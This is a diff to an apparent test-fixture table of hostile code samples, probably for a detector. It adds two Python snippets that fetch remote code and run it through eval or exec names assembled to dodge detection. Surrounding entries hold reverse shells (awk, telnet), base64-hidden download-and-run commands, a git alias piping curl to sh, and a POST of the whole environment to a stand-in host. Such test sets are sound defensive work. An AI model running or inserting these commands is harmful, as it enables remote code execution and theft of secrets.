@@ -339,6 +339,8 @@ FORMS: dict[str, tuple[str, str]] = {
     "awk reading commands from a socket through getline": ("a.sh", "awk -v peer=/inet/tcp/0/198.51.100.4/9001 'BEGIN { while ((peer |& getline line) > 0) { while ((line | getline out) > 0) print out |& peer } }'\n"),  # noqa: E501
     "node -e decoding a command and spawning it": ("a.sh", "node -e \"require('node:child_process').spawnSync('sh', ['-c', Buffer.from('d2dldCAtcU8tIGh0dHA6Ly8xOTIuMC4yLjEvbiB8IHNo', 'base64').toString('utf8')])\"\n"),  # noqa: E501
     "node --eval sending the environment": ("a.sh", "node --eval 'fetch(\"https://c.example.invalid/e\", {method: \"POST\", body: JSON.stringify(process.env)})'\n"),  # noqa: E501
+    "eval found in the builtins' namespace by a built key": ("a.py", "import builtins as b, urllib.request as u\ncode = u.urlopen('https://cdn.example.invalid/p.py').read().decode()\nrun = b.__dict__['ev' + 'al']\nrun(compile(code, 'p', 'exec'))\n"),  # noqa: E501
+    "exec looked up with vars()": ("a.py", "import builtins, requests\nvars(builtins)[''.join(['e', 'x', 'e', 'c'])](requests.get('http://192.0.2.1/x').text)\n"),
     "deno run of a URL": ("a.sh", "deno run -A https://cdn.example.invalid/x.ts\n"),
     "shell between two sockets": ("a.sh", "telnet 192.0.2.1 4444 | /bin/sh | telnet 192.0.2.1 4445\n"),
     "git alias that downloads": ("a.sh", "git config --global alias.st '!curl -s http://192.0.2.1/x | sh; git status'\n"),  # noqa: E501
